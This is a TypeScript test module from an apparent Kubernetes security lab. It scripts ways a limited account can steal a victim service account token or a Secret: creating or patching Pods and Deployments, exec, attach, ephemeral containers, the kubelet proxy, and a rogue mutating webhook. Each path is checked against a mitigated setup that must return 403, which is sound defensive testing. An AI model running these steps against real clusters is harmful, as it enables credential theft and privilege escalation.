/** How one comes to run code in a namespace: in Pods of one's own, or in those of others. */
import { createServer } from "node:https";
import { stringAt } from "@redoubt/kube";
import { TOKEN, messageOf, rule } from "../attack-lab.ts";
import { NODE_NAME, TEST_IMAGE } from "../node.ts";
import { streamCommand } from "../stream-command.ts";
import {
  type AttackStep,
  type Outcome,
  type Scene,
  answered,
  asWhom,
  createsPod,
  secretOf,
  victimOf,
} from "./attack-step.ts";
import { secretNamed } from "./secrets.ts";

const AS_VICTIM = { serviceAccountName: "victim" };
const THIEF_IMAGE = "redoubt.test/thief:1";
const STRATEGIC = "application/strategic-merge-patch+json";
/** A log has whole lines; a token ends with none. */
const PRINT_AND_STAY = `cat ${TOKEN}; echo; sleep 600`;
const PRINT_TOKEN = `command=cat&command=${encodeURIComponent(TOKEN)}`;

/** A Pod that runs as the victim, and for as long as the tests do. */
const running = ({ lab }: Scene): Promise<void> =>
  lab.start("app", `while true; do cat ${TOKEN}; echo; sleep 1; done`, AS_VICTIM);

/** The token that a log begins with, once there is one. */
async function tokenInLog({ lab }: Scene, log: string): Promise<Outcome> {
  const text = async (): Promise<string> => String((await lab.attacker.get(lab.path(log))).body);
  await lab.until(async () => (await text()).includes("eyJ"));
  return asWhom(lab, /eyJ\S+/.exec(await text())?.[0] ?? "");
}

/** The token in the log of the Pod with a label, once there is one. */
async function tokenOfPod(scene: Scene, label: string): Promise<Outcome> {
  const { lab } = scene;
  const pod = async (): Promise<string> => {
    const { body } = await lab.attacker.get(lab.path(`pods?labelSelector=${label}`));
    return stringAt(body, ["items", 0, "metadata", "name"]) ?? "";
  };
  await lab.until(async () => (await pod()) !== "");
  return tokenInLog(scene, `pods/${await pod()}/log`);
}

function deploymentOf(spec: object): object {
  return {
    metadata: { name: "web" },
    spec: {
      selector: { matchLabels: { app: "web" } },
      strategy: { type: "Recreate" },
      template: { metadata: { labels: { app: "web" } }, spec: { terminationGracePeriodSeconds: 0, ...spec } },
    },
  };
}

function containerOf(command: readonly string[]): object {
  return { name: "c", image: TEST_IMAGE, imagePullPolicy: "Never", command };
}

export const WORKLOAD_STEPS: readonly AttackStep[] = [
  {
    name: "create-workload",
    kinds: ["create-workload", "run-as-account", "use-power"],
    does: "creates a Pod that runs as the victim, and reads its token in the log",
    mitigation: "no right to create Pods",
    setup: (mitigated) => ({ rights: [rule(mitigated ? "list" : "create", "pods"), rule("get", "pods/log")] }),
    walk: ["holds-role", "create-workload", "run-as-account", "use-power"],
    to: victimOf,
    attempt: (scene) =>
      createsPod(scene.lab, scene.lab.pod("thief", `cat ${TOKEN}`, AS_VICTIM), () =>
        tokenInLog(scene, "pods/thief/log"),
      ),
    gets: ({ lab }) => lab.victim,
    refusal: /^403 .*cannot create resource "pods"/,
  },
  {
    name: "create-deployment",
    kinds: ["create-workload"],
    does: "creates a Deployment whose Pods run as the victim, and reads their token in the log",
    mitigation: "no right to create Deployments",
    setup: (mitigated) => ({
      rights: [
        rule(mitigated ? "list" : "create", "deployments", "apps"),
        rule("list", "pods"),
        rule("get", "pods/log"),
      ],
    }),
    walk: ["holds-role", "create-workload", "run-as-account", "use-power"],
    to: victimOf,
    attempt: async (scene) => {
      const { lab } = scene;
      const deployment = deploymentOf({ ...AS_VICTIM, containers: [containerOf(["sh", "-c", PRINT_AND_STAY])] });
      const answer = await lab.attacker.post(lab.path("deployments", "apps/v1"), deployment);
      return answer.status === 201 ? tokenOfPod(scene, "app=web") : { refused: messageOf(answer) };
    },
    gets: ({ lab }) => lab.victim,
    refusal: /^403 .*cannot create resource "deployments"/,
  },
  {
    name: "mount-secret",
    kinds: ["mount-secret"],
    does: "creates a Pod that mounts a Secret, and reads it in the log",
    mitigation: "no right to create Pods",
    setup: (mitigated) => ({ rights: [rule(mitigated ? "list" : "create", "pods"), rule("get", "pods/log")] }),
    stage: ({ lab }) => lab.make("secrets", secretNamed("loot")),
    walk: ["holds-role", "create-workload", "mount-secret", "use-power"],
    to: secretOf("loot"),
    attempt: ({ lab }) => {
      const volumes = [{ name: "v", secret: { secretName: "loot" } }];
      const volumeMounts = [{ name: "v", mountPath: "/v" }];
      return createsPod(lab, lab.pod("thief", "cat /v/word", { volumes }, { volumeMounts }), async () => {
        const log = async (): Promise<string> => String((await lab.attacker.get(lab.path("pods/thief/log"))).body);
        await lab.until(async () => (await log()) === "open sesame");
        return { got: await log() };
      });
    },
    gets: () => "open sesame",
    refusal: /^403 .*cannot create resource "pods"/,
  },
  {
    name: "change-workload",
    kinds: ["change-workload"],
    does: "has somebody's Deployment run a command of its own as the victim",
    mitigation: "no right to change Deployments",
    setup: (mitigated) => ({
      rights: [rule(mitigated ? "get" : "patch", "deployments", "apps"), rule("list", "pods"), rule("get", "pods/log")],
    }),
    stage: ({ lab }) =>
      lab.make("deployments", deploymentOf({ containers: [containerOf(["sleep", "600"])] }), "apps/v1"),
    walk: ["holds-role", "change-workload", "run-as-account", "use-power"],
    to: victimOf,
    attempt: async (scene) => {
      const { lab } = scene;
      const spec = { ...AS_VICTIM, containers: [{ name: "c", command: ["sh", "-c", PRINT_AND_STAY] }] };
      const change = { spec: { template: { metadata: { labels: { taken: "over" } }, spec } } };
      const answer = await lab.attacker.send("PATCH", lab.path("deployments/web", "apps/v1"), change, STRATEGIC);
      return answer.status === 200 ? tokenOfPod(scene, "taken=over") : { refused: messageOf(answer) };
    },
    gets: ({ lab }) => lab.victim,
    refusal: /^403 .*cannot patch resource "deployments"/,
  },
  {
    name: "change-pod-image",
    kinds: ["change-pod-image"],
    does: "gives a running Pod of the victim an image that prints its token",
    mitigation: "no right to change Pods",
    setup: (mitigated) => ({ rights: [rule(mitigated ? "get" : "patch", "pods"), rule("get", "pods/log")] }),
    stage: async ({ cluster, lab, mitigated }) => {
      if (!mitigated) cluster.addImage(THIEF_IMAGE, ["/bin/sh", "-c", PRINT_AND_STAY]);
      // What it runs is what its image says.
      const spec = { ...AS_VICTIM, restartPolicy: "Always", terminationGracePeriodSeconds: 0 };
      await lab.start("app", "", spec, { command: [], stdin: true });
    },
    walk: ["holds-role", "change-pod-image", "use-power", "account-token"],
    to: victimOf,
    attempt: async (scene) => {
      const { lab } = scene;
      const change = { spec: { containers: [{ name: "c", image: THIEF_IMAGE }] } };
      const answer = await lab.attacker.send("PATCH", lab.path("pods/app"), change, STRATEGIC);
      return answer.status === 200 ? tokenInLog(scene, "pods/app/log") : { refused: messageOf(answer) };
    },
    gets: ({ lab }) => lab.victim,
    refusal: /^403 .*cannot patch resource "pods"/,
  },
  {
    name: "exec",
    kinds: ["exec"],
    does: "runs a command in a Pod of the victim that prints its token",
    mitigation: "no right to pods/exec",
    setup: (mitigated) => ({ rights: [rule("get", mitigated ? "pods" : "pods/exec")] }),
    stage: running,
    walk: ["holds-role", "exec", "use-power", "account-token"],
    to: victimOf,
    attempt: async ({ lab }) => {
      const path = lab.path(`pods/app/exec?container=c&stdout=true&${PRINT_TOKEN}`);
      const { status, stdout } = await streamCommand(lab.plane, lab.attackerToken, path);
      return status === 101 ? asWhom(lab, stdout) : { refused: String(status) };
    },
    gets: ({ lab }) => lab.victim,
    refusal: /^403$/,
  },
  {
    name: "attach",
    kinds: ["attach"],
    does: "attaches to a Pod of the victim, which prints its token",
    mitigation: "no right to pods/attach",
    setup: (mitigated) => ({ rights: [rule("get", mitigated ? "pods" : "pods/attach")] }),
    stage: running,
    walk: ["holds-role", "attach", "use-power", "account-token"],
    to: victimOf,
    attempt: async ({ lab }) => {
      const path = lab.path("pods/app/attach?container=c&stdout=true");
      const whole = (text: string): boolean => /eyJ\S+\n/.test(text);
      const { status, stdout } = await streamCommand(lab.plane, lab.attackerToken, path, whole);
      return status === 101 ? asWhom(lab, /eyJ\S+/.exec(stdout)?.[0] ?? "") : { refused: String(status) };
    },
    gets: ({ lab }) => lab.victim,
    refusal: /^403$/,
  },
  {
    name: "ephemeral",
    kinds: ["ephemeral-container"],
    does: "adds a container to a Pod of the victim that mounts its token and prints it",
    mitigation: "no right to change pods/ephemeralcontainers",
    setup: (mitigated) => ({
      rights: [rule(mitigated ? "get" : "patch", "pods/ephemeralcontainers"), rule("get", "pods pods/log")],
    }),
    stage: running,
    walk: ["holds-role", "ephemeral-container", "use-power", "account-token"],
    to: victimOf,
    attempt: async (scene) => {
      const { lab } = scene;
      const { body } = await lab.attacker.get(lab.path("pods/app"));
      const container = {
        name: "thief",
        image: TEST_IMAGE,
        imagePullPolicy: "Never",
        command: ["cat", TOKEN],
        volumeMounts: [
          {
            name: stringAt(body, ["spec", "volumes", 0, "name"]),
            mountPath: "/var/run/secrets/kubernetes.io/serviceaccount",
          },
        ],
      };
      const change = { spec: { ephemeralContainers: [container] } };
      const answer = await lab.attacker.send("PATCH", lab.path("pods/app/ephemeralcontainers"), change, STRATEGIC);
      return answer.status === 200 ? tokenInLog(scene, "pods/app/log?container=thief") : { refused: messageOf(answer) };
    },
    gets: ({ lab }) => lab.victim,
    refusal: /^403 .*cannot patch resource "pods\/ephemeralcontainers"/,
  },
  {
    name: "kubelet-api",
    kinds: ["kubelet-api"],
    does: "has the kubelet run a command in a Pod of the victim, past the API server's own exec",
    mitigation: "no right to nodes/proxy",
    setup: (mitigated) => ({ clusterRights: [rule("get create", mitigated ? "nodes" : "nodes/proxy")] }),
    stage: running,
    walk: ["holds-role", "kubelet-api", "use-power", "use-power", "account-token"],
    to: victimOf,
    attempt: async ({ lab }) => {
      const run = `/api/v1/nodes/${NODE_NAME}/proxy/run/${lab.namespace}/app/c?cmd=cat%20${encodeURIComponent(TOKEN)}`;
      const answer = await lab.attacker.send("POST", run);
      return answer.status === 200 ? asWhom(lab, String(answer.body)) : { refused: messageOf(answer) };
    },
    gets: ({ lab }) => lab.victim,
    refusal: /^403 .*cannot create resource "nodes\/proxy"/,
  },
  {
    name: "rewrite-admission",
    kinds: ["rewrite-admission"],
    does: "registers a webhook that has the victim's Pods print their tokens as they are created",
    mitigation: "no right to write webhook configurations",
    setup: (mitigated) => ({
      clusterRights: [
        rule(mitigated ? "get" : "create", "mutatingwebhookconfigurations", "admissionregistration.k8s.io"),
        rule("get", "pods/log"),
      ],
    }),
    walk: ["holds-role", "rewrite-admission", "use-power", "run-as-account", "use-power"],
    to: victimOf,
    attempt: rewritePods,
    gets: ({ lab }) => lab.victim,
    refusal: /^403 .*cannot create resource "mutatingwebhookconfigurations"/,
  },
];

/** Serves a webhook for the lab's namespace on the host's end of the node's network, has it registered, and a Pod created. */
async function rewritePods(scene: Scene): Promise<Outcome> {
  const { lab } = scene;
  const { plane, namespace } = lab;
  const host = plane.placement.address.replace(/\d+$/, "1");
  const pair = await plane.ca.server("thief", [host]);
  const command = [{ op: "replace", path: "/spec/containers/0/command", value: ["cat", TOKEN] }];
  const server = createServer({ cert: pair.certificate, key: pair.key }, (request, response) => {
    let text = "";
    request.on("data", (chunk: Buffer) => (text += chunk.toString()));
    request.on("end", () => {
      const review: unknown = JSON.parse(text);
      const uid = stringAt(review, ["request", "uid"]);
      const patch = Buffer.from(JSON.stringify(command)).toString("base64");
      response.setHeader("content-type", "application/json");
      response.end(
        JSON.stringify({
          apiVersion: "admission.k8s.io/v1",
          kind: "AdmissionReview",
          response: { uid, allowed: true, patchType: "JSONPatch", patch },
        }),
      );
    });
  });
  await new Promise<void>((resolve) => server.listen(0, host, resolve));
  const address = server.address();
  const port = typeof address === "object" ? address?.port : undefined;
  try {
    const answer = await lab.attacker.post("/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations", {
      metadata: { name: namespace },
      webhooks: [
        {
          name: "thief.redoubt.test",
          admissionReviewVersions: ["v1"],
          sideEffects: "None",
          failurePolicy: "Ignore",
          namespaceSelector: { matchLabels: { "kubernetes.io/metadata.name": namespace } },
          rules: [{ apiGroups: [""], apiVersions: ["v1"], operations: ["CREATE"], resources: ["pods"] }],
          clientConfig: {
            url: `https://${host}:${port}/`,
            caBundle: Buffer.from(plane.ca.certificate).toString("base64"),
          },
        },
      ],
    });
    if (answer.status !== 201) return answered(answer, () => "");
    // A configuration takes a moment to be in force.
    const rewritten = async (): Promise<boolean> => {
      const trial = await plane.admin.post(lab.path("pods?dryRun=All"), lab.pod("app", "true", AS_VICTIM));
      return stringAt(trial.body, ["spec", "containers", 0, "command", 0]) === "cat";
    };
    await lab.until(rewritten);
    await lab.make("pods", lab.pod("app", "true", AS_VICTIM));
    return await tokenInLog(scene, "pods/app/log");
  } finally {
    await plane.admin.delete(`/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations/${namespace}`);
    server.close();
    server.closeAllConnections();
  }
}
